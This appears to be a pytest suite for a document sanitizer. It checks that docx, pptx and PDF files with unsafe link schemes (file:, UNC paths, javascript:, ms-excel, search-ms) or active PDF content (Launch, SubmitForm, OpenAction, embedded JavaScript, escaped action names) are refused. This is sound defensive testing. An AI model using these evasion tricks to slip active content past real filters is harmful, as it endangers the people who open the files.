def test_page_fields_contents_and_captions_pass_whatever_text_follows(pieces: tuple[Any, ...], footer: bool) -> None:
    check("docx", story(*pieces, " See the LINK below: DATABASE, INCLUDE.", footer=footer))


@pytest.mark.parametrize(
    ("address", "passes"),
    [
        ("https://example.org", True),
        ("mailto:a@example.org?subject=x", True),
        ("tel:+4930123", True),
        ("#place", True),
        ("file:///c:/x", False),
        ("\\\\host\\share", False),
        ("javascript:x", False),
        ("ht\ttps://x", False),
        ("\u200bhttps://x", False),
        ("ms-excel:ofe|u|https://x.test/a.xlsm", False),
        ("search-ms:query=x", False),
        ("mailto:a@b.c?attach=\\\\host\\x", False),
        ("annex.pdf", False),
        ("https:\\\\host\\x", False),
    ],
)
def test_links_are_judged_by_their_scheme_in_all_formats(address: str, passes: bool) -> None:
    word, deck, page = docx.Document(), pptx.Presentation(), io.BytesIO()
    word.part.relate_to(address, docx.opc.constants.RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    box = deck.slides.add_slide(deck.slide_layouts[6]).shapes.add_textbox(0, 0, 9, 9)
    box.text_frame.paragraphs[0].add_run().hyperlink.address = address
    canvas = Canvas(page)
    canvas.linkURL(address, (0, 0, 9, 9))
    canvas.save()
    for format, data in (("docx", saved(word)), ("pptx", saved(deck)), ("pdf", page.getvalue())):
        if passes:
            check(format, data)
        else:
            refused(format, data, "leads neither to the web")


# -- PDF ---------------------------------------------------------------------------------------------------------------

Name, Dictionary, Array, String = pikepdf.Name, pikepdf.Dictionary, pikepdf.Array, pikepdf.String


def page_with(change: Callable[[pikepdf.Pdf, Any], None]) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    change(pdf, pdf.pages[0].obj)
    buffer = io.BytesIO()
    pdf.save(buffer, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return buffer.getvalue()


def click(pdf: pikepdf.Pdf, page: Any, **action: Any) -> None:
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=Dictionary(**action))
    page.Annots = Array([pdf.make_indirect(link)])


def annotate(page: Any, **content: Any) -> None:
    page.Annots = Array([Dictionary(Type=Name.Annot, Rect=[0, 0, 9, 9], **content)])


def opens(pdf: pikepdf.Pdf, page: Any, following: Any) -> None:
    """A place is shown when the file is opened, and then something else happens."""
    pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([page, Name.Fit]), Next=following)


ADDRESS = {"S": Name.URI, "URI": String("https://x.test")}


def loads(pdf: pikepdf.Pdf, page: Any) -> None:
    stream = pikepdf.Stream(pdf, b"")
    stream.F = String("http://x.test/a")
    page.Contents = pdf.make_indirect(stream)


REFUSED_PDF: dict[str, Callable[[pikepdf.Pdf, Any], Any]] = {
    "indirect address": lambda pdf, page: click(pdf, page, S=Name.URI, URI=pdf.make_indirect(String("file:///x"))),
    "indirect script": lambda pdf, page: click(pdf, page, S=Name.URI, URI=pdf.make_indirect(String("javascript:x"))),
    "indirect kind": lambda pdf, page: click(pdf, page, S=pdf.make_indirect(Name.GoToR), F=String("x.pdf")),
    "indirect program": lambda pdf, page: click(pdf, page, S=pdf.make_indirect(Name.Launch), F=String("x")),
    "form that sends": lambda pdf, page: click(pdf, page, S=pdf.make_indirect(Name.SubmitForm)),
    "unknown action": lambda pdf, page: click(pdf, page, S=Name.Future),
    "unknown named action": lambda pdf, page: click(pdf, page, S=Name.Named, N=Name.SaveAs),
    "next action": lambda pdf, page: click(pdf, page, S=Name.GoTo, Next=Array([Dictionary(S=Name.Launch)])),
    "address that opens": lambda pdf, page: setattr(
        pdf.Root, "OpenAction", pdf.make_indirect(Dictionary(S=Name.URI, URI=String("https://x.test")))),
    "address after a place": lambda pdf, page: opens(pdf, page, Dictionary(**ADDRESS)),
    "address after two places": lambda pdf, page: opens(
        pdf, page, Array([Dictionary(S=Name.GoTo, D=String("a"), Next=pdf.make_indirect(Dictionary(**ADDRESS)))])),
    "places without an end": lambda pdf, page: opens(pdf, page, Array([Dictionary(S=Name.GoTo, D=String("a"))] * 100)),
    "address in a slide show": lambda pdf, page: setattr(
        page, "PresSteps", Dictionary(Type=Name.NavNode, NA=Dictionary(**ADDRESS))),
    "another slide show": lambda pdf, page: setattr(
        pdf.Root, "Names", Dictionary(AlternatePresentations=Dictionary(Names=Array([String("a")])))),
    "address on a page's opening": lambda pdf, page: setattr(
        page, "AA", Dictionary(O=Dictionary(S=Name.URI, URI=String("https://x.test")))),
    "attachment without a type": lambda pdf, page: annotate(
        page, Subtype=Name.Text, FS=Dictionary(F=String("a"), EF=Dictionary(F=pikepdf.Stream(pdf, b"MZ")))),
    "attachment as an annotation": lambda pdf, page: annotate(page, Subtype=Name.FileAttachment),
    "rich media": lambda pdf, page: annotate(page, Subtype=Name.RichMedia),
    "3D script": lambda pdf, page: annotate(page, Subtype=Name("/3D")),
    "screen": lambda pdf, page: annotate(page, Subtype=pdf.make_indirect(Name.Screen)),
    "unknown annotation": lambda pdf, page: annotate(page, Subtype=Name.Future),
    "external stream": loads,
    "names of scripts": lambda pdf, page: setattr(
        pdf.Root, "Names", Dictionary(JavaScript=Dictionary(Names=Array([String("a")])))),
    "portfolio": lambda pdf, page: setattr(pdf.Root, "Collection", Dictionary(View=Name.D)),
    "form in XML": lambda pdf, page: setattr(pdf.Root, "AcroForm", Dictionary(XFA=String("x"), Fields=Array([]))),
    "address for who signs": lambda pdf, page: setattr(
        pdf.Root, "AcroForm", Dictionary(Fields=Array([Dictionary(FT=Name.Sig, T=String("s"), SV=Dictionary(
            Cert=Dictionary(URL=String("file://host/x"))))]))),
    "base of addresses": lambda pdf, page: setattr(pdf.Root, "URI", Dictionary(Base=String("file:///"))),
}  # fmt: skip


@pytest.mark.parametrize("name", REFUSED_PDF)
def test_what_acts_in_a_pdf_is_refused_however_it_is_written(name: str) -> None:
    made: list[Any] = []  # what is made has to live until it is written
    refused("pdf", page_with(lambda pdf, page: made.append(REFUSED_PDF[name](pdf, page))), "it holds|a link")


def linked_page() -> bytes:
    page = io.BytesIO()
    canvas = Canvas(page)
    canvas.linkURL("https://example.org", (0, 0, 9, 9))
    canvas.save()
    return page.getvalue()


def test_an_object_that_only_a_repairing_reader_finds_is_gone() -> None:
    data = linked_page() + b"99 0 obj << /S /JavaScript /JS (x) >> endobj\n%%EOF\n"
    assert b"/JavaScript" not in check("pdf", data).data


def test_a_name_that_is_written_with_escapes_is_what_it_means() -> None:
    link = b"/S /URI /Type /Action /URI (https://example.org)"
    data = linked_page()
    assert link in data
    refused("pdf", data.replace(link, b"/S /L#61unch /Type /Action /F (x)".ljust(len(link))), "starts a program")


def test_an_honest_pdf_keeps_its_pages_links_bookmarks_and_forms() -> None:
    page = io.BytesIO()
    canvas = Canvas(page)
    canvas.bookmarkPage("first")
    canvas.addOutlineEntry("First", "first")
    canvas.linkURL("https://example.org", (0, 0, 9, 9))
    canvas.linkURL("tel:+4930123", (0, 0, 9, 9))
    canvas.linkRect("", "first", (0, 0, 9, 9))
    canvas.acroForm.textfield(name="name", x=100, y=100)
    canvas.drawString(100, 700, "revenue")
    canvas.showPage()
    canvas.save()
    with pikepdf.open(io.BytesIO(page.getvalue())) as pdf:
        opens(pdf, pdf.pages[0].obj, Dictionary(S=Name.Named, N=Name.FirstPage))
        pdf.save(written := io.BytesIO())
    checked = check("pdf", written.getvalue())
    assert checked.extent == "1 page"
    with pikepdf.open(io.BytesIO(checked.data)) as pdf:
        assert [str(item.Subtype) for item in pdf.pages[0].Annots] == ["/Link", "/Link", "/Link", "/Widget"]
        assert pdf.Root.Outlines.Count == 1
    assert check("pdf", checked.data).data == checked.data
